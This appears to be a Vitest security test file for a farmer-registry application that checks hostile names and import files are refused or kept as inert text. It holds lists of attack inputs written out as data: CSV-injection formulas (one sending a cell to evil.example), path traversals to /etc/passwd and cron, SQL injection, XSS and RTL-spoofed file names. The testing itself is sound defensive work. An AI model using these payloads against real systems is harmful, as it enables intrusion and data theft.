import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import iconv from 'iconv-lite'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { refusalKinds } from '#shared/contract/refusal.ts'
import { uuid7 } from '#shared/sync/uuid.ts'
import { verifyStation } from '#main/verify-station.ts'
import { deliveryOf } from '../support/busy-counter.ts'
import { openCounterClient, type Seen } from '../support/counter-client.ts'
import { hostileMarkup } from '../support/hostile-markup.ts'
import { prepareCounter } from '../support/prepared-counter.ts'
import { runs } from '../support/runs.ts'
import { scratchRoot } from '../support/station.ts'

// Issue 2, bad input: names and files as an attacker, a broken program or a cat on the keyboard makes them, through the router and the
// real services into a real store. Each is refused by its kind or kept as the text it is; nothing that leaves the station does anything.

let folder = ''
let farmers: readonly string[] = []
let counter: Awaited<ReturnType<typeof openCounterClient>>
let made = 0
const commandId = () => uuid7(1_793_600_000_000 + made, Buffer.from(String(made++).padStart(10, '0')))

beforeAll(async () => {
  folder = mkdtempSync(join(scratchRoot, 'hostile-'))
  const people = await prepareCounter(folder, 3)
  farmers = people.farmers
  counter = await openCounterClient(folder, people)
  expect(await counter.login()).toHaveProperty('said')
})
afterAll(async () => {
  await counter.close()
  rmSync(folder, { recursive: true, force: true })
})

const controls = Array.from({ length: 33 }, (_, n) => (n === 32 ? 0x7f : n)).filter(n => ![9, 10, 13].includes(n))
const hostile: Record<string, readonly string[]> = {
  markup: hostileMarkup,
  formulas: [
    "=cmd|'/C calc'!A0",
    '+1+1',
    '-2+3+cmd|calc',
    '@SUM(1;1)',
    '=HYPERLINK("http://evil.example?x="&A1;"Voir")',
    '=1+1";=2+2',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '"=1+1"',
    "'=1+1",
    ';=1+1',
    ',=1+1',
  ],
  paths: [
    '../../../../etc/passwd',
    '..\\..\\boot.ini',
    'C:\\Windows\\win.ini',
    '/dev/null',
    'CON',
    'NUL.txt',
    'a/../b',
    '%2e%2e%2f',
    '~root',
  ],
  queries: [
    "'; DROP TABLE farmer; --",
    '" OR 1=1 --',
    '%',
    '_',
    '\\',
    "Robert'); DELETE FROM entry;--",
    '* OR name:*',
    'NULL',
  ],
  shapes: [
    'constructor',
    '__proto__',
    'toString',
    'undefined',
    '[object Object]',
    '{"$gt":""}',
    '%s%s%n',
    '{0}',
    '\\u0000',
  ],
  scripts: [
    '\u202eGNP.exe',
    '\u200b\u200b\u2060',
    'Z\u0351\u036b\u0343\u032a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357',
    'ﷺ﷽',
    '👨‍👩‍👧‍👦🇨🇲',
    'Ekɔŋ Ŋgɔ̀ ɓaɗɛ',
    '\ufeffDébut',
    'ﬁ Å e\u0301',
    '𝕏𝕐𝕫',
  ],
}
const refused: Record<string, readonly string[]> = {
  controls: controls.map(n => `Nom${String.fromCharCode(n)}Prénom`),
  escapes: ['Nom\u001b@\u001bp\u0000', 'Nom\u001d\u0056\u0000'],
  surrogates: ['Nom\ud800', '\udc00Nom', 'A\ud83dB'],
  huge: ['A'.repeat(101), '<'.repeat(100_000), '\u0301'.repeat(50_000)],
  empty: ['', '   ', '\u00a0', '\u2028\u2029'],
}

/** What a text is after it was taken: composed, without blanks around it. */
const kept = (text: string): string => text.trim().normalize('NFC')

const createFarmer = (name: string) =>
  counter.see(() => counter.client.farmers.create({ commandId: commandId(), fields: { name, village: 'Ebebda' } }))
const idOf = (seen: Seen): string => ('said' in seen ? (seen.said as { id: string }).id : expect.fail(seen.refused))
const refusalOf = (seen: Seen): string => ('refused' in seen ? seen.refused : 'taken')

/** A cell that a spreadsheet would run. Source: owasp.org/www-community/attacks/CSV_Injection. */
const isFormula = (cell: string): boolean => /^[=+\-@\t\r＝＋－＠]/.test(cell)

async function exported(flavour: 'csv' | 'machine'): Promise<string[][]> {
  const file = await counter.client.farmers.export({ query: { archived: 'show' }, flavour, lang: 'fr' })
  expect(file.fileName).toMatch(/^[\w.-]+\.csv$/)
  const text = Buffer.from(file.base64, 'base64')
    .toString('utf8')
    .replace(/^\ufeff/, '')
  return Papa.parse<string[]>(text, { delimiter: flavour === 'csv' ? ';' : ',', newline: '\r\n' }).data
}

describe('hostile names', () => {
  test.each(Object.entries(hostile))('%s are kept as the text they are', async (_kind, names) => {
    for (const name of names) {
      const id = idOf(await createFarmer(name))
      const got = await counter.client.farmers.get({ id })
      expect(got.name, JSON.stringify(name)).toBe(kept(name))
      expect(await counter.see(() => counter.client.farmers.find({ text: name.slice(0, 100) }))).toHaveProperty('said')
      const search = { query: { search: name.slice(0, 100) } }
      expect(await counter.see(() => counter.client.farmers.list(search.query))).toHaveProperty('said')
    }
  })

  test.each(Object.entries(refused))('%s are refused, and leave nothing', async (_kind, names) => {
    const before = (await counter.client.farmers.list({})).total
    for (const name of names)
      expect(refusalOf(await createFarmer(name)), JSON.stringify(name.slice(0, 40))).toBe('Invalid')
    expect((await counter.client.farmers.list({})).total).toBe(before)
  })

  test('no name becomes a formula in what is exported, and every one is there', async () => {
    for (const flavour of ['csv', 'machine'] as const) {
      const rows = await exported(flavour)
      const cells = rows.flat().filter(cell => !/^-?\d+([.,]\d+)?$/.test(cell))
      expect(cells.filter(isFormula)).toEqual([])
      const all = new Set(cells.map(cell => cell.replace(/^'/, '')))
      const lost = Object.values(hostile)
        .flat()
        .filter(name => !all.has(kept(name)) && !all.has(kept(name).replace(/^'/, '')))
      expect(lost).toEqual([])
    }
  })

  test('papers print them: a PDF and a roll, without a byte of theirs being a command', async () => {
    for (const name of [
      '<script>alert(1)</script>',
      "=cmd|'/C calc'!A0",
      '\u202eGNP.exe',
      '👨‍👩‍👧‍👦🇨🇲',
      'Ekɔŋ Ŋgɔ̀ ɓaɗɛ',
      'ﷺ﷽',
    ]) {
      const farmer = idOf(await createFarmer(`${name} papier`))
      const delivery = { ...deliveryOf([farmer], 1), notes: name, vehicle: name, driver: name }
      const { id } = await counter.client.deliveries.record({ commandId: commandId(), delivery })
      for (const paper of ['a5', '80mm'] as const) {
        const input = { commandId: commandId(), id, paper, lang: 'fr' as const, print: true }
        const printed = await counter.see(() => counter.client.receipts.delivery(input))
        expect(printed, `${name} on ${paper}`).toHaveProperty('said')
      }
    }
  })

  test('any text at all is kept or refused as Invalid (property)', async () => {
    const units = fc.oneof(
      fc.integer({ min: 0, max: 0xffff }),
      fc.constantFrom(0, 9, 10, 13, 27, 34, 39, 59, 60, 61, 0xd800, 0xdc00, 0xfeff, 0x202e, 0xffff),
    )
    const anything = fc.array(units, { maxLength: 120 }).map(list => String.fromCharCode(...list))
    await fc.assert(
      fc.asyncProperty(anything, async name => {
        const seen = await createFarmer(name)
        if ('refused' in seen) expect(seen.refused).toBe('Invalid')
        else {
          const got = await counter.client.farmers.get({ id: idOf(seen) })
          expect(got.name).toBe(kept(name))
          expect(got.name?.isWellFormed()).toBe(true)
        }
      }),
      { numRuns: runs(150, 5_000), seed: 7 },
    )
  })
})

const header = 'Code;Nom et prénoms;Village;Téléphone'
const lines = (names: readonly string[]) =>
  [header, ...names.map((name, n) => `X${n};${name};Ebebda;6${70_000_000 + n}`)].join('\n')
const everyName = Object.values(hostile).flat()
const noise = (count: number) =>
  Buffer.from(Array.from({ length: count }, (_, n) => (n * 7_919 + (n >> 3) * 104_729) & 0xff))

const files: Record<string, Uint8Array> = {
  'every hostile name, UTF-8': Buffer.from(lines(everyName.map(name => `"${name.replaceAll('"', '""')}"`))),
  'every hostile name, unquoted': Buffer.from(lines(everyName)),
  'UTF-16, little end first': iconv.encode(lines(['ATANGANA Élise']), 'utf16le', { addBOM: true }),
  'UTF-16, big end first': iconv.encode(lines(['ATANGANA Élise']), 'utf16be', { addBOM: true }),
  'UTF-16 without its mark': iconv.encode(lines(['ATANGANA Élise']), 'utf16le'),
  'Windows-1252': iconv.encode(lines(['NGO BIKAÏ Cécile']), 'win1252'),
  'Mac Roman': iconv.encode(lines(['NGO BIKAÏ Cécile']), 'macroman'),
  'UTF-8 cut in a character': Buffer.from(lines(['ÉLISE'])).subarray(0, header.length + 8),
  'zeros between letters': Buffer.from(lines(['A\0B\0C', 'D'])),
  'controls and escapes': Buffer.from(lines(['Nom\u001b@Prénom', 'Nom\u0007', 'Nom\u0085'])),
  'surrogates as bytes': Buffer.concat([
    Buffer.from(`${header}\n1;`),
    Buffer.from([0xed, 0xa0, 0x80]),
    Buffer.from(';E;1'),
  ]),
  'one line of a megabyte': Buffer.from(`${header}\n1;${'A'.repeat(1 << 20)};E;1`),
  'a quote that never ends': Buffer.from(`${header}\n1;"${'A;B\n'.repeat(20_000)}`),
  'ten thousand columns': Buffer.from(`${'Nom;'.repeat(10_000)}\n${'A;'.repeat(10_000)}`),
  'only separators': Buffer.from(';;;;\n'.repeat(5_000)),
  nothing: Buffer.alloc(0),
  'zeros alone': Buffer.alloc(100_000),
  noise: noise(50_000),
  'noise called a workbook': Buffer.concat([Buffer.from('PK\u0003\u0004'), noise(20_000)]),
  'an old workbook': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(20_000)]),
  'a picture': Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), noise(5_000)]),
  'a PDF': Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF'),
  'a web page': Buffer.from('<html><body><table><tr><td>Nom</td></tr></table></body></html>'),
}
const fileNames = [
  'registre.csv',
  '../../../../etc/cron.d/x.csv',
  '..\\..\\Startup\\x.xlsx',
  'C:\\registre.csv',
  'CON.csv',
  '<img src=x onerror=alert(1)>.csv',
  "=cmd|'/C calc'!A0.csv",
  '\u202evsc.exe',
]

/** Brings a file in as far as it goes; every refusal on the way is one that the screens have words for. */
async function bringIn(bytes: Uint8Array, fileName: string): Promise<string> {
  const base64 = Buffer.from(bytes).toString('base64')
  const { imports } = counter.client
  const opened = await counter.see(() => imports.open({ kind: 'farmers', fileName, base64 }))
  if ('refused' in opened) return opened.refused
  const { importId, mapping } = opened.said as Awaited<ReturnType<typeof imports.open>>
  const checked = await counter.see(() => imports.check({ importId, mapping }))
  if ('refused' in checked) {
    await counter.see(() => imports.cancel({ importId }))
    return checked.refused
  }
  const errors = await imports.errorFile({ importId, lang: 'fr' })
  const cells = Papa.parse<string[]>(
    Buffer.from(errors.base64, 'base64')
      .toString('utf8')
      .replace(/^\ufeff/, ''),
    { delimiter: ';' },
  )
  expect(errors.fileName, fileName).not.toMatch(/[/\\<>:|"?*\u0000-\u001f\u202e]|^\.\.|^CON\./)
  expect(cells.data.flat().filter(cell => isFormula(cell) && !/^-?\d+([.,]\d+)?$/.test(cell))).toEqual([])
  const applied = await counter.see(() => imports.apply({ commandId: commandId(), importId }))
  return 'refused' in applied ? applied.refused : 'came in'
}

describe('hostile files', () => {
  test.each(Object.entries(files))(
    '%s',
    async (_name, bytes) => {
      const end = await bringIn(bytes, 'registre.csv')
      if (end !== 'came in') expect(refusalKinds as string[]).toContain(end)
    },
    60_000,
  )

  test('no name of a file leads anywhere', async () => {
    const before = readdirSync(folder).sort()
    for (const fileName of fileNames) {
      const end = await bringIn(Buffer.from(lines([`NOM ${made}`])), fileName)
      if (end !== 'came in') expect(refusalKinds as string[], fileName).toContain(end)
    }
    expect(readdirSync(folder).sort()).toEqual(before)
  })

  test('a file above the limit is refused before it is read', async () => {
    const end = await bringIn(Buffer.alloc(21 << 20, 'A'), 'registre.csv')
    expect(['TooLarge', 'Invalid', 'ImportUnreadable']).toContain(end)
  })

  test('bytes changed anywhere in a good file never end the station (property)', async () => {
    const good = Buffer.from(lines(['ATANGANA Élise', 'MBARGA Jean', 'ONANA Paul']))
    const change = fc.record({ at: fc.nat(good.length - 1), to: fc.integer({ min: 0, max: 255 }) })
    await fc.assert(
      fc.asyncProperty(fc.array(change, { minLength: 1, maxLength: 12 }), async changes => {
        const bytes = Buffer.from(good)
        for (const { at, to } of changes) bytes[at] = to
        const end = await bringIn(bytes, 'registre.csv')
        expect(['came in', ...refusalKinds]).toContain(end)
      }),
      { numRuns: runs(60, 2_000), seed: 11 },
    )
  })
})

test('after all of it no call was a bug, nothing stored is malformed, and the ledger verifies', async () => {
  expect(counter.logged.filter(line => 'event' in line && line.event === 'fault')).toEqual([])
  const rows = (await counter.client.farmers.list({ limit: 200 })).rows
  for (const { name } of rows) expect(name ?? '').not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/)
  const { id } = await counter.client.deliveries.record({ commandId: commandId(), delivery: deliveryOf(farmers, 2) })
  expect(id).toMatch(/^[0-9a-f-]{36}$/)
  expect(await verifyStation(folder, true)).toMatchObject({ ok: true })
  expect(readFileSync(join(folder, 'station.db')).length).toBeGreaterThan(0)
})
